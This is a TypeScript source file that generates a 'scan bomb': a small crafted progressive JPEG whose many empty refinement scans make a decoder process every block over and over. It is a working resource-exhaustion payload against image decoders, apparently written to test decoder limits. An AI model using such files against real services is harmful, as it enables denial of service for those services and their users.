/** A progressive JPEG whose decoder has to process all of its blocks once for each of this many scans. */
export function scanBomb(scans: number, width = 7000, height = 7000): Buffer {
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  const head = Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, Buffer.concat([Buffer.from([0]), Buffer.alloc(64, 1)])),
    segment(0xc2, Buffer.from([8, height >> 8, height & 255, width >> 8, width & 255, 1, 1, 0x11, 0])),
    // One code each: DC differences are all 'none', AC coefficients are 'none in the next 2^14 or more blocks'.
    segment(0xc4, Buffer.from([0x00, 1, ...Array<number>(15).fill(0), 0x00])),
    segment(0xc4, Buffer.from([0x10, 1, ...Array<number>(15).fill(0), 0xe0])),
  ]);
  const start = (from: number, to: number): Buffer => segment(0xda, Buffer.from([1, 1, 0x00, from, to, 0x00]));
  const first = Buffer.concat([start(0, 0), Buffer.alloc(Math.ceil(blocks / 8))]);
  const refining = Buffer.concat([start(1, 63), runs(blocks)]);
  return Buffer.concat([head, first, ...Array<Buffer>(scans).fill(refining), Buffer.from([0xff, 0xd9])]);
}

function segment(marker: number, content: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(content.byteLength + 2, 2);
  return Buffer.concat([head, content]);
}

/** 'No coefficients' for all blocks, in runs of at most 32,767. */
function runs(blocks: number): Buffer {
  let bits = '';
  for (let left = blocks; left > 0;) {
    const run = Math.max(16_384, Math.min(left, 32_767));
    bits += `0${(run - 16_384).toString(2).padStart(14, '0')}`;
    left -= run;
  }
  const bytes = bits.padEnd(Math.ceil(bits.length / 8) * 8, '1').match(/.{8}/g) ?? [];
  return Buffer.from(bytes.flatMap((byte) => (byte === '11111111' ? [0xff, 0] : [Number.parseInt(byte, 2)])));
}
